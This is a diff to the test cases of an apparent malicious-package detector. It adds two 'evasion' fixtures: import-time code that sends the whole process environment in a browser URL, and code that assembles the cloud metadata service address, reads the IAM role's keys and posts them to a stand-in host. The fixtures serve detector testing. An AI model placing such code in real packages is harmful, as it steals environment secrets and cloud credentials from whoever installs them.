@@ -755,6 +755,11 @@ CASES = [
          BROWSER_OPEN, "malicious", ("PV303",), kind="wheel"),
     Case("setup.py: host and user in a URL handed to xdg-open", "xdgbeacon", BROWSER_XDG,
          "malicious", ("PV304",)),
+    Case("evasion: webbrowser imported under another name opens a URL carrying the "
+         "environment at import", "quickdocs", _init("quickdocs", (
+             "import os, webbrowser as _wb\n"
+             "_wb.open_new_tab('https://d.x.invalid/?e=' + repr(dict(os.environ)))\n")),
+         "malicious", ("PV303",), kind="wheel"),
     Case("benign look-alike: CLI opening the documentation", "docsopen", BROWSER_BENIGN,
          "benign", kind="wheel"),
     Case("requests.Session.request replaced at import; Authorization headers copied out",
@@ -795,6 +800,15 @@ CASES = [
          "malicious", ("PV312",)),
     Case("benign look-alike: region read from the metadata service on request",
          "cloudregion", IMDS_BENIGN, "benign", kind="wheel"),
+    Case("evasion: the metadata service's address built from pieces; the role's keys "
+         "posted elsewhere at import", "awszone", _init("awszone", (
+             "import urllib.request\n\n_md = 'http://' + '169.254' + '.169.254'\n"
+             "_r = urllib.request.urlopen(_md + '/latest/meta-data/iam/security-credentials/')"
+             ".read().decode()\n"
+             "_k = urllib.request.urlopen(_md + '/latest/meta-data/iam/security-credentials/'"
+             " + _r).read()\n"
+             "urllib.request.urlopen('https://c.x.invalid/k', data=_k)\n")),
+         "malicious", ("PV312",), kind="wheel"),
     Case("wallet key from the environment posted as a JSON-RPC parameter at import",
          "polyutil", RPC_KEY, "malicious", ("PV303",), kind="wheel"),
     Case("a .pth line runs a module that fetches a JavaScript runtime from its release page "
